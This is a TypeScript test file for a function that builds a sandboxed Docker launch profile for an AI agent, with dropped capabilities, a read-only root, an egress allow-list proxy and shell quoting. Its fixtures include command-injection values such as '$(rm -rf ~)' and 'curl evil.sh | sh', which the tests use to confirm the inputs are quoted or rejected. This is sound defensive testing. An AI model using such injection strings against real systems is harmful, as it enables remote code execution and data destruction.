import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { launchProfile, LaunchProfileError } from './launchProfile';
import type { AgentPolicy } from './policyTypes';
import { shellQuote } from './shellQuote';

const policy = (overrides: Partial<AgentPolicy> = {}): AgentPolicy => ({
  id: 'p1', agentId: 'research-bot', version: 3, allowedTools: ['read_file'], allowedFileRoots: ['/srv/docs', '/srv/out'],
  writableFileRoots: ['/srv/out'], allowedEgressHosts: ['api.github.com', '*.acme.dev'], maxScopes: ['ingest:write'], ...overrides,
});

/** Every value given to a repeated flag, from argv. */
function flagValues(args: string[], flag: string): string[] {
  return args.flatMap((arg, i) => (arg === flag ? [args[i + 1]!] : arg.startsWith(`${flag}=`) ? [arg.slice(flag.length + 1)] : []));
}

/** What a POSIX shell makes of the pasted command: its argv, as `docker` would receive it. */
function shellWords(command: string): string[] {
  const script = `set -- ${command.replace(/^docker /, '')}; for a in "$@"; do printf '%s\\0' "$a"; done`;
  return execFileSync('sh', ['-c', script], { encoding: 'utf8' }).split('\0').slice(0, -1);
}

describe('launchProfile', () => {
  it('drops every capability, makes the root read-only and forbids privilege escalation', () => {
    const { dockerArgs } = launchProfile(policy());
    expect(dockerArgs).toContain('--cap-drop=ALL');
    expect(dockerArgs).toContain('--read-only');
    expect(flagValues(dockerArgs, '--security-opt')).toEqual(['no-new-privileges']);
    expect(dockerArgs.some((arg) => /^--(privileged|cap-add)/.test(arg))).toBe(false);
    expect(dockerArgs.at(-1)).toBe('your-agent-image:tag');
  });

  it('mounts exactly the allowed roots, read-only unless writable', () => {
    const { dockerArgs } = launchProfile(policy());
    expect(flagValues(dockerArgs, '--mount')).toEqual([
      'type=bind,source=/srv/docs,target=/srv/docs,readonly',
      'type=bind,source=/srv/out,target=/srv/out',
    ]);
    expect(flagValues(dockerArgs, '--volume')).toEqual([]);
    expect(flagValues(dockerArgs, '-v')).toEqual([]);
  });

  it('sends traffic through an allow-list proxy on an internal network, listing exactly the allowed hosts', () => {
    const profile = launchProfile(policy());
    expect(flagValues(profile.dockerArgs, '--network')).toEqual([profile.names.network]);
    expect(profile.networkSetup).toContain(`docker network create --internal ${profile.names.network}`);
    expect(flagValues(profile.dockerArgs, '--env')).toContain(`HTTPS_PROXY=http://${profile.names.proxy}:3128`);
    expect(profile.proxyConfig).toContain('acl warden_allowed dstdomain api.github.com\n');
    expect(profile.proxyConfig).toContain('acl warden_allowed dstdom_regex -i \\.acme\\.dev$');
    expect(profile.proxyConfig!.trim().split('\n').filter((line) => line.startsWith('http_access')).at(-1)).toBe('http_access deny all');
  });

  it('gives an agent without egress hosts no network at all, and one without roots no mounts', () => {
    const profile = launchProfile(policy({ allowedEgressHosts: [], allowedFileRoots: [], writableFileRoots: [] }));
    expect(flagValues(profile.dockerArgs, '--network')).toEqual(['none']);
    expect(flagValues(profile.dockerArgs, '--mount')).toEqual([]);
    expect(profile.proxyConfig).toBeNull();
    expect(profile.networkSetup).toBe('');
  });

  it('adds the gVisor runtime on request and always explains it', () => {
    expect(launchProfile(policy()).dockerArgs).not.toContain('--runtime=runsc');
    const profile = launchProfile(policy(), { gvisor: true });
    expect(profile.dockerArgs).toContain('--runtime=runsc');
    expect(profile.gvisorNote).toMatch(/runsc install/);
  });

  it('quotes paths with spaces and quotes so the shell hands docker exactly the argv', () => {
    const profile = launchProfile(policy({ agentId: `Bot "A"; $(rm -rf ~)`, allowedFileRoots: ["/srv/my docs/it's here", '/srv/$HOME`x`'], writableFileRoots: [] }),
      { image: 'img; curl evil.sh | sh' });
    expect(shellWords(profile.dockerCommand)).toEqual(profile.dockerArgs);
    expect(flagValues(profile.dockerArgs, '--mount')).toContain("type=bind,source=/srv/my docs/it's here,target=/srv/my docs/it's here,readonly");
    expect(profile.names.container).toMatch(/^warden-agent-bot-a-rm-rf-[0-9a-f]{6}$/);
  });

  it('refuses roots with .., commas or relative paths, the whole filesystem, and hosts with shell metacharacters', () => {
    for (const root of ['/srv/../etc', '/srv/a,b', 'srv/docs', '/', '/srv/a"b', '/srv/\nx']) {
      expect(() => launchProfile(policy({ allowedFileRoots: [root] })), root).toThrow(LaunchProfileError);
    }
    expect(() => launchProfile(policy({ writableFileRoots: ['/srv/./out'] }))).toThrow(LaunchProfileError);
    for (const host of ['evil.com;curl x|sh', '$(id).example', 'a b.com', 'http://x.com', 'x.com:443', '`id`', '*.com', 'évil.com']) {
      expect(() => launchProfile(policy({ allowedEgressHosts: [host] })), host).toThrow(LaunchProfileError);
    }
    expect(() => launchProfile(policy(), { image: '--privileged' })).toThrow(LaunchProfileError);
  });

  it('lists the scope ceiling for the agent token', () => {
    expect(launchProfile(policy()).notes[0]).toBe('Give this agent a Warden token with at most these scopes: ingest:write.');
    expect(launchProfile(policy({ maxScopes: [] })).notes[0]).toBe('This agent may hold no Warden token.');
  });
});

describe('shellQuote', () => {
  it('leaves safe words alone and quotes the rest so the shell returns them unchanged', () => {
    expect(shellQuote('--cap-drop=ALL')).toBe('--cap-drop=ALL');
    const hostile = ["it's", '$(id)', '`id`', 'a b', 'x;y', 'q"q', '', '\\n', '*'];
    expect(shellWords(`docker ${hostile.map(shellQuote).join(' ')}`)).toEqual(hostile);
  });
});
